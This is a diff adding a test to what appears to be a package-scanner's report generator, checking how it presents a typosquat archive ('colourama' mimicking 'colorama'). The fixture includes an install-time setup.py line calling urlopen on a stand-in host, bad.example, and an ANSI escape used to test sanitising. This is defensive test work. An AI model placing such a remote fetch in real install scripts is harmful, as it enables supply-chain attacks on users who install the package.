@@ -75,6 +75,21 @@ for (const isPlain of [true, false]) {
   });
 }
 
+for (const isPlain of [true, false]) {
+  test(`what was added to the original stands in the report, and nothing of the reporter's machine (${isPlain ? 'plain' : 'Markdown'})`, () => {
+    const lines = Array.from({ length: 50 }, (_, index) => ({ line: index + 1, text: index === 3 ? 'urlopen("http://bad.example/x") \u001b[2J' : `line ${index}` }));
+    const original = { target: '/home/ada/colorama-0.3.9.tar.gz', same: 9, added: [{ path: 'setup.py', stage: 'install' as const, lines, isChanged: true as const }, { path: 'README', stage: 'unreachable' as const, lines, isChanged: true as const }] };
+    const oddity = { ...REPORT.findings[0], rule: 'archive-oddity', message: 'a member stands twice' };
+    const told = registryReport([{ ...REPORT, target: '/home/ada/samples/colourama-0.1.6.tar.gz', original, findings: [...REPORT.findings, { ...REPORT.findings[1], ...oddity } as Report['findings'][number]] }], { version: '1.0.0', isPlain }).replaceAll('\\', '');
+    assert.doesNotMatch(told, /home|ada\/|http:\/\/|\u001b|README/);
+    for (const part of ['colourama-0.1.6.tar.gz', 'What it adds to colorama-0.3.9.tar.gz', '+4 urlopen("hxxp://bad[.]example/x")', '… and 10 more lines']) assert.ok(told.includes(part), `${part}\n${told}`);
+    const [imitation = '', rest = ''] = told.split('step by step');
+    assert.match(imitation, /British spelling/);
+    assert.doesNotMatch(imitation, /stands twice/);
+    assert.match(rest, /stands twice/);
+  });
+}
+
 test('the SBOM lists each package once, with what is wrong and what was let pass', () => {
   const clean: Report = { ...REPORT, target: 'npm:@s/a@1.0.0', package: { ecosystem: 'npm', name: '@s/a', version: '1.0.0', purl: 'pkg:npm/%40s/a@1.0.0' }, verdict: 'clean', score: 0, findings: [], story: [], lockedBy: ['package-lock.json:5'] };
   const passed: Report = { ...REPORT, target: 'x', package: { ecosystem: 'pypi', name: 'x', version: '1', purl: 'pkg:pypi/x@1' }, verdict: 'clean', exception: { reason: 'looked at', approvedBy: 'ada', expires: '2027-01-01' } };
